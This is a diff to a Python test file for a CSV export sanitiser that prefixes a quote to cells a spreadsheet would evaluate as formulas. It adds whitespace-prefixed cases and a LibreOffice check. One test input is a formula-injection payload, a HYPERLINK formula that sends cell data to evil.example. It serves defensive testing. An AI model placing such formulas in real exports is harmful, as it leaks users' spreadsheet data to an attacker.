@@ -35,12 +35,14 @@ def read_xlsx(content: bytes):
     return list(openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", " =1+1", "\n =1", "\u00a0@A1"]
+)
 def test_a_text_a_spreadsheet_would_evaluate_gets_a_single_quote_first(text):
     assert neutralise(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["Zoé", "25 €", "a=b", "", "'déjà", "#N/A", " =1"])
+@pytest.mark.parametrize("text", ["Zoé", "25 €", "a=b", "", "'déjà", "#N/A", " Zoé", "   "])
 def test_other_texts_are_kept(text):
     assert neutralise(text) == text
 
@@ -83,7 +85,11 @@ def test_an_error_value_or_a_control_character_stays_a_plain_text_cell():
 def test_libreoffice_opens_the_csv_with_french_settings_and_evaluates_nothing(tmp_path):
     """The real LibreOffice Calc, French import (fr-FR, « ; », UTF-8, special numbers detected, formulas evaluated)."""
     hostile = '=HYPERLINK("http://evil.example/?"&A1;"Cliquez")'
-    rows = [[hostile, Decimal("-12.50"), "0612345678", "", AT, AT, 2], ["+33 6", Decimal("25"), "", "", AT, AT, 1]]
+    rows = [
+        [hostile, Decimal("-12.50"), "0612345678", "", AT, AT, 2],
+        ["+33 6", Decimal("25"), "", "", AT, AT, 1],
+        ["  =1+1", None, "", "", None, None, None],
+    ]
     source = tmp_path / "export.csv"
     source.write_text(table_csv(COLUMNS, rows), encoding="utf-8")
     subprocess.run(
@@ -102,9 +108,9 @@ def test_libreoffice_opens_the_csv_with_french_settings_and_evaluates_nothing(tm
         capture_output=True,
         timeout=180,
     )
-    [_, first, second] = read_xlsx((tmp_path / "out" / "export.xlsx").read_bytes())
-    assert all(c.data_type != "f" for c in first + second)
-    assert first[0].value == "'" + hostile and second[0].value == "'+33 6"
+    [_, first, second, third] = read_xlsx((tmp_path / "out" / "export.xlsx").read_bytes())
+    assert all(c.data_type != "f" for c in first + second + third)
+    assert first[0].value == "'" + hostile and second[0].value == "'+33 6" and third[0].value == "'  =1+1"
     assert (first[1].value, second[1].value) == (-12.5, 25)
     assert first[2].value == "06 12 34 56 78"
     assert first[4].value == datetime(2026, 4, 2)
